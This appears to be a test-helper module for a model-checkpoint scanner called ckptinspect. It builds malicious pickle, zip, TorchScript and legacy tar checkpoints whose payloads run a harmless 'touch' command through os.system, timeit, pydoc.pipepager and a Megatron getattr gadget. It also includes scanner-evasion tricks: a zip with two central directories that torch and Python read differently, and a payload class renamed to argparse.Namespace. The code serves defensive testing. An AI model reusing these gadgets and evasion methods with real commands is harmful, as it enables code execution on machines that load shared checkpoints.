"""Builders of malicious checkpoint samples for the hostile-input tests (issue 18), and the real-loader harness.

Every payload, loaded for real, creates a marker file (`touch`). `run_real_loader` loads a sample with the real
loader (torch.load / DCP / Megatron-Core's extra-state decoding) in a subprocess, so the tests can assert both that
the loader runs the payload and that ckptinspect calls the sample `unsafe`.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path
from typing import Any


class Reduce:
    """Pickles as `fn(*args)`."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.fn, self.args


def _u(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _glob(module: str, name: str) -> bytes:
    return _u(module) + _u(name) + b"\x93"


def payload(marker: Path, kind: str = "os.system") -> bytes:
    """A pickle that creates `marker` when unpickled for real, through `kind`:
    - ``os.system``: the deny-listed classic;
    - ``timeit``: `timeit.timeit(stmt, setup, timer, number)` execs its statement (no deny list names it);
    - ``pipepager``: `pydoc.pipepager(text, cmd)` runs `cmd` in a shell;
    - ``import_module``: Megatron-Core's allowlisted-by-prefix `spec_utils.import_module(("os", "system"))` returns
      `os.system` from two strings (a getattr gadget), which is then called;
    - ``then-garbage``: `os.system` runs, then the pickle is broken (the loader fails after running it).
    """
    touch = f"touch {marker}"
    if kind == "os.system":
        return pickle.dumps({"args": Reduce(os.system, (touch,)), "iteration": 1}, protocol=2)
    if kind == "timeit":
        return _timeit(marker)
    if kind == "pipepager":
        return b"\x80\x04" + _glob("pydoc", "pipepager") + _u("x") + _u(touch) + b"\x86R."
    if kind == "import_module":
        return (b"\x80\x04" + _glob("megatron.core.transformer.spec_utils", "import_module") + _u("os") + _u("system")
                + b"\x86\x85R" + _u(touch) + b"\x85R.")
    if kind == "then-garbage":
        return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(touch)) + touch.encode() + b"\x85R\xff\xfe"
    raise ValueError(kind)


def _timeit(marker: Path) -> bytes:
    stmt = f"open({str(marker)!r}, 'w').close()"
    return (b"\x80\x04" + _glob("timeit", "timeit") + b"(" + _u(stmt) + _u("pass") + _glob("time", "perf_counter")
            + b"K\x01tR.")


PAYLOADS = ("os.system", "timeit", "pipepager", "import_module", "then-garbage")

# --- zip archives written by hand (torch's reader and Python's disagree on them) -------------------------------------


def zip_entries(archive: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def write_zip(entries: list[tuple[str, bytes]], local_names: dict[int, str] | None = None) -> bytes:
    """A stored zip of `entries` in order (duplicates kept). `local_names[i]` gives entry i another name in its
    local header than in the central directory."""
    out = io.BytesIO()
    central = []
    for i, (name, data) in enumerate(entries):
        off = out.tell()
        lname = (local_names or {}).get(i, name).encode()
        crc = zlib.crc32(data)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(lname), 0))
        out.write(lname + data)
        central.append((name.encode(), crc, len(data), off))
    return out.getvalue() + _central(central, out.tell(), 0)


def _central(central: list[tuple[bytes, int, int, int]], cd_at: int, shift: int) -> bytes:
    cd = b"".join(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, n, n, len(name), 0, 0, 0,
                              0, 0, off - shift) + name for name, crc, n, off in central)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd), cd_at - shift, 0)
    return cd + end


def two_directories(evil: list[tuple[str, bytes]], benign: list[tuple[str, bytes]]) -> bytes:
    """One file, two central directories of equal size: miniz (offsets taken literally) reads the first, Python's
    zipfile (offsets shifted by the bytes "prepended" before the directory it finds last) reads the second."""
    assert [n for n, _ in evil] == [n for n, _ in benign]
    out = io.BytesIO()
    pad = sum(30 + len(n) + len(d) for n, d in benign) + 64
    prefix = evil[0][0].split("/", 1)[0]
    evil = evil + [(f"{prefix}/zpad", b"\0" * pad)]  # torch wants every member under the archive's directory
    benign = benign + [(f"{prefix}/zpad", b"")]
    evil_c = []
    for name, data in evil:
        off = out.tell()
        crc = zlib.crc32(data)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0))
        out.write(name.encode() + data)
        evil_c.append((name.encode(), crc, len(data), off))
    x = out.tell()
    evil_cd = _central(evil_c, x, 0)[:-22]
    out.write(evil_cd)
    benign_c = []
    for name, data in benign:
        off = out.tell()
        crc = zlib.crc32(data)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0))
        out.write(name.encode() + data)
        benign_c.append((name.encode(), crc, len(data), off))
    cd_at = out.tell()
    concat = cd_at - x
    blob = _central(benign_c, cd_at, concat)  # offsets stored minus `concat`: what zipfile adds back
    assert len(blob) - 22 == len(evil_cd)
    return out.getvalue() + blob


# --- the real loaders --------------------------------------------------------------------------------------------------

_LOADERS = {
    "torch.load": "import torch, sys; torch.load(sys.argv[1], weights_only=False)",
    # Megatron-Core's TE extra-state decoding (megatron/core/extensions/transformer_engine.py `_decode_extra_state`):
    # the byte item is torch.load-ed (DCP's load_bytes), the uint8 tensor's bytes go to pickle.loads.
    "extra_state": textwrap.dedent("""
        import io, pickle, sys, torch
        blob = open(sys.argv[1], 'rb').read()
        start, length = int(sys.argv[2]), int(sys.argv[3])
        state = torch.load(io.BytesIO(blob[start:start + length]), weights_only=False)
        if isinstance(state, torch.Tensor) and state.numel():
            pickle.loads(state.detach().cpu().numpy().tobytes())
    """),
    "dcp": textwrap.dedent("""
        import sys, warnings
        warnings.simplefilter('ignore')
        import torch.distributed.checkpoint as dcp
        state = {sys.argv[2]: None}
        dcp.load(state, checkpoint_id=sys.argv[1])
    """),
}


_BATCH = textwrap.dedent("""
    import io, json, pickle, sys, warnings
    warnings.simplefilter('ignore')
    import torch
    out = {}
    for kind, args in json.loads(sys.argv[1]):
        try:
            if kind == 'torch.load':
                torch.load(args[0], weights_only=False)
            elif kind == 'extra_state':
                blob = open(args[0], 'rb').read()
                start, length = int(args[1]), int(args[2])
                state = torch.load(io.BytesIO(blob[start:start + length]), weights_only=False)
                if isinstance(state, torch.Tensor) and state.numel():
                    pickle.loads(state.detach().cpu().numpy().tobytes())
            elif kind == 'dcp':
                import torch.distributed.checkpoint as dcp
                dcp.load({args[1]: None}, checkpoint_id=args[0])
        except BaseException as e:  # the loader may fail after running the payload
            out[args[0]] = repr(e)[:300]
    print(json.dumps(out))
""")


def run_real_loaders(jobs: list[tuple[str, list[str]]], timeout: float = 300) -> dict[str, str]:
    """Load many samples with the real loaders in ONE subprocess (torch is imported once); returns path → error of
    the samples whose load raised (after running its payload or not)."""
    import json

    result = subprocess.run([sys.executable, "-c", _BATCH, json.dumps(jobs)], capture_output=True, text=True,
                            timeout=timeout)
    lines = result.stdout.strip().splitlines()
    return dict(json.loads(lines[-1])) if lines else {"?": result.stderr[-500:]}


def run_real_loader(kind: str, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Load a sample with the real loader in a subprocess (it may fail after running the payload; that is fine)."""
    return subprocess.run([sys.executable, "-c", _LOADERS[kind], *args], capture_output=True, text=True,
                          timeout=timeout, cwd=Path(args[0]).parent if args else None)


# --- DCP stored items re-laid with torch's own classes -----------------------------------------------------------------


def relay_item(ckpt: Path, key: str, blob: bytes, relative_path: str | None = None,
               target: Path | None = None) -> tuple[Path, int, int]:
    """Append `blob` to the data file of stored item `key` (or write it to `target`) and point `.metadata` at it,
    optionally under another `relative_path`. `.metadata` is rewritten through torch's own classes (the sample is
    trusted, so loading it with torch is fine here). Returns (file, offset, length)."""
    import torch.distributed.checkpoint  # noqa: F401 - registers the classes the pickle names
    from torch.distributed.checkpoint.filesystem import _StorageInfo

    with open(ckpt / ".metadata", "rb") as f:
        md = pickle.load(f)
    idx = next(i for i in md.storage_data if i.fqn == key)
    info = md.storage_data[idx]
    path = target if target is not None else ckpt / info.relative_path
    offset = path.stat().st_size if path.exists() else 0
    with open(path, "ab") as f:
        f.write(blob)
    md.storage_data[idx] = _StorageInfo(relative_path or info.relative_path, offset, len(blob))
    with open(ckpt / ".metadata", "wb") as f:
        pickle.dump(md, f)
    return path, offset, len(blob)


def torch_save_bytes(obj: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def uint8_tensor_of(data: bytes) -> Any:
    """Transformer Engine >= 2.0's `_extra_state`: `torch.frombuffer(bytearray(pickle.dumps(state)), uint8)`."""
    import torch

    return torch.frombuffer(bytearray(data), dtype=torch.uint8)


# --- TorchScript archives (torch.load hands them to torch.jit.load) ----------------------------------------------------


def torchscript_bytes(marker: Path | None, disguise: bool = True) -> bytes:
    """A `torch.jit.save` archive. With a marker: a module whose TorchScript `__setstate__` creates `marker` when
    `torch.jit.load` (hence `torch.load`) loads it; `disguise` renames its class `__torch__.Touch` to
    `argparse.Namespace` (code in `code/argparse.py`), so `data.pkl` is an allowlisted create-and-fill
    (`argparse.Namespace()` + BUILD) that no pickle judge flags. Without a marker: a benign scripted `nn.Linear`."""
    import torch

    buf = io.BytesIO()
    if marker is None:
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
        return buf.getvalue()
    from torchscript_payload import Touch

    torch.jit.save(torch.jit.script(Touch(str(marker))), buf)
    if not disguise:
        return buf.getvalue()
    old = "__torch__.torchscript_payload.Touch"
    out = []
    for name, data in zip_entries(buf.getvalue()):
        if name.endswith(".debug_pkl"):
            continue  # debug info names the original class; torch.jit.load does without it
        if name.endswith("code/__torch__/torchscript_payload.py"):
            name = name.replace("code/__torch__/torchscript_payload.py", "code/argparse.py")
            data = data.replace(old.encode(), b"argparse.Namespace").replace(b"class Touch(", b"class Namespace(")
        elif name.endswith("/data.pkl"):
            data = data.replace(b"c__torch__.torchscript_payload\nTouch\n", b"cargparse\nNamespace\n")
        out.append((name, data))
    return write_zip(out)


# --- pre-1.6 tar checkpoints (torch 2.13 reads them, no longer writes them) --------------------------------------------


def torch_tar_bytes(state: dict[str, Any], main_pickle: bytes | None = None) -> bytes:
    """`state` (tensors at its top level) in the pre-1.6 tar layout exactly as torch 2.13's reader takes it
    (torch/serialization.py `_legacy_load`, inner `legacy_load`): members `storages` (pickle of their count; per
    storage a pickle `(key, location, storage type)`, int64 element count, the elements; a pickle of the views),
    `tensors` (pickle of their count; per tensor a pickle `(key, storage key, tensor type)`, int32 ndim, 4 pad bytes,
    int64 sizes, int64 strides, int64 storage offset) and `pickle` (the object, tensors as persistent ids = their
    keys). Every pickle is written by torch's own pickler settings (`pickle`, protocol 2, `persistent_id`).
    `main_pickle` replaces the `pickle` member."""
    import tarfile

    import torch

    tensors = [(k, v) for k, v in state.items() if isinstance(v, torch.Tensor)]
    assert all(t.is_contiguous() for _, t in tensors)
    storages = io.BytesIO()
    storages.write(pickle.dumps(len(tensors), protocol=2))
    tensor_part = io.BytesIO()
    tensor_part.write(pickle.dumps(len(tensors), protocol=2))
    keys: dict[int, int] = {}
    for i, (_, t) in enumerate(tensors):
        storage_type = {torch.float32: torch.FloatStorage, torch.int64: torch.LongStorage}[t.dtype]
        storages.write(pickle.dumps((i, "cpu", storage_type), protocol=2))
        storages.write(struct.pack("<q", t.numel()) + t.numpy().tobytes())
        key = len(tensors) + i  # one namespace with the storage keys (`deserialized_objects`)
        keys[id(t)] = key
        tensor_part.write(pickle.dumps((key, i, torch.FloatTensor), protocol=2))
        tensor_part.write(struct.pack("<i", t.dim()) + b"\0" * 4 + struct.pack(f"<{t.dim()}q", *t.shape)
                          + struct.pack(f"<{t.dim()}q", *t.stride()) + struct.pack("<q", 0))
    storages.write(pickle.dumps([], protocol=2))
    if main_pickle is None:
        class _Pickler(pickle.Pickler):
            def persistent_id(self, obj: Any) -> Any:
                return keys[id(obj)] if isinstance(obj, torch.Tensor) else None

        buf = io.BytesIO()
        _Pickler(buf, protocol=2).dump(state)
        main_pickle = buf.getvalue()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", storages.getvalue()), ("tensors", tensor_part.getvalue()),
                           ("pickle", main_pickle)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()
